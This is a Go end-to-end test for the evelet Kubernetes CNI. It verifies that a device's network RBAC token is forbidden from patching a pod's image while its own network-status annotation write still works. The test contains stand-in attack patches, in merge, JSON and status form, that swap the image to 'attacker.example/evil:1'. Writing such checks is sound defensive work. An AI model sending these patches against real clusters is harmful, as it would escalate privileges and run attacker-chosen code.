package e2e

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	ktypes "k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/kubernetes"
	"k8s.io/client-go/rest"
	"k8s.io/client-go/tools/clientcmd"
	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"

	"github.com/lf-edge/evelet/cni/annotation"
	"github.com/lf-edge/evelet/cni/meta"
	"github.com/lf-edge/evelet/images"
)

// TestNetworkCredentialCannotRunCode: the evelet-network token a device
// holds (deploy/evelet-network-rbac.yaml, against the real apiserver)
// cannot change a pod's image, which would run code of the holder's
// choosing, while evelet-cni's own write of network-status (through
// pods/status, as multus does) works with it.
func TestNetworkCredentialCannotRunCode(t *testing.T) {
	needEnv(t)
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	dc, err := dynamic.NewForConfig(env.cp.RESTConfig())
	if err != nil {
		t.Fatal(err)
	}
	token := setupNADCluster(t, ctx, dc)
	cs := env.cp.Client()

	// A pod bound to a node that does not exist: it never runs, so only
	// the API object matters.
	pod := &corev1.Pod{
		ObjectMeta: metav1.ObjectMeta{Name: "netcred-victim", Namespace: "default"},
		Spec: corev1.PodSpec{NodeName: "netcred-nowhere", Containers: []corev1.Container{{
			Name: "main", Image: images.BusyboxRef, ImagePullPolicy: corev1.PullNever, Command: []string{"sleep", "3600"}}}},
	}
	if _, err := cs.CoreV1().Pods("default").Create(ctx, pod, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cs.CoreV1().Pods("default").Delete(context.Background(), pod.Name, metav1.DeleteOptions{GracePeriodSeconds: new(int64)})
	})

	// The token's client, and the kubeconfig evelet-cni reads, as the
	// agent writes it.
	kubeconfig := filepath.Join(t.TempDir(), "evelet-network.kubeconfig")
	kc := clientcmdapi.NewConfig()
	kc.Clusters["c"] = &clientcmdapi.Cluster{Server: env.cp.URL(), CertificateAuthorityData: env.cp.CACertPEM()}
	kc.AuthInfos["u"] = &clientcmdapi.AuthInfo{Token: token}
	kc.Contexts["c"] = &clientcmdapi.Context{Cluster: "c", AuthInfo: "u"}
	kc.CurrentContext = "c"
	if err := clientcmd.WriteToFile(*kc, kubeconfig); err != nil {
		t.Fatal(err)
	}
	cfg := &rest.Config{Host: env.cp.URL(), BearerToken: token, TLSClientConfig: rest.TLSClientConfig{CAData: env.cp.CACertPEM()}}
	tokenCS, err := kubernetes.NewForConfig(cfg)
	if err != nil {
		t.Fatal(err)
	}

	// The attack: change the image (merge and JSON patch alike).
	for _, p := range []struct {
		typ  ktypes.PatchType
		body string
	}{
		{ktypes.StrategicMergePatchType, `{"spec":{"containers":[{"name":"main","image":"attacker.example/evil:1"}]}}`},
		{ktypes.JSONPatchType, `[{"op":"replace","path":"/spec/containers/0/image","value":"attacker.example/evil:1"}]`},
	} {
		_, err := tokenCS.CoreV1().Pods("default").Patch(ctx, pod.Name, p.typ, []byte(p.body), metav1.PatchOptions{})
		if !apierrors.IsForbidden(err) {
			t.Errorf("the evelet-network token's %s PATCH of spec.containers[0].image: %v, want Forbidden", p.typ, err)
		}
	}
	// Nor through the status subresource, which keeps the spec.
	if _, err := tokenCS.CoreV1().Pods("default").Patch(ctx, pod.Name, ktypes.MergePatchType,
		[]byte(`{"spec":{"containers":[{"name":"main","image":"attacker.example/evil:1"}]}}`), metav1.PatchOptions{}, "status"); err != nil {
		t.Logf("status PATCH with a spec: %v", err)
	}
	got, err := cs.CoreV1().Pods("default").Get(ctx, pod.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if img := got.Spec.Containers[0].Image; img != images.BusyboxRef {
		t.Fatalf("the pod's image is now %q", img)
	}

	// evelet-cni's own write works with the token.
	c := &meta.Conf{Kubeconfig: kubeconfig}
	cl, err := meta.KubeClients(c)
	if err != nil {
		t.Fatal(err)
	}
	status := `[{"name":"default/x","interface":"net1","ips":["10.9.0.2"]}]`
	if err := cl.Pods.Annotate(ctx, "default", pod.Name, annotation.StatusKey, status); err != nil {
		t.Fatalf("evelet-cni writing network-status with the token: %v", err)
	}
	got, err = cs.CoreV1().Pods("default").Get(ctx, pod.Name, metav1.GetOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var a, b any
	_ = json.Unmarshal([]byte(got.Annotations[annotation.StatusKey]), &a)
	_ = json.Unmarshal([]byte(status), &b)
	if got.Annotations[annotation.StatusKey] == "" || !jsonEqual(a, b) || got.Spec.Containers[0].Image != images.BusyboxRef {
		t.Fatalf("after evelet-cni's write: annotations %v, image %q", got.Annotations, got.Spec.Containers[0].Image)
	}
	_ = os.Remove(kubeconfig)
}

func jsonEqual(a, b any) bool {
	x, _ := json.Marshal(a)
	y, _ := json.Marshal(b)
	return string(x) == string(y)
}
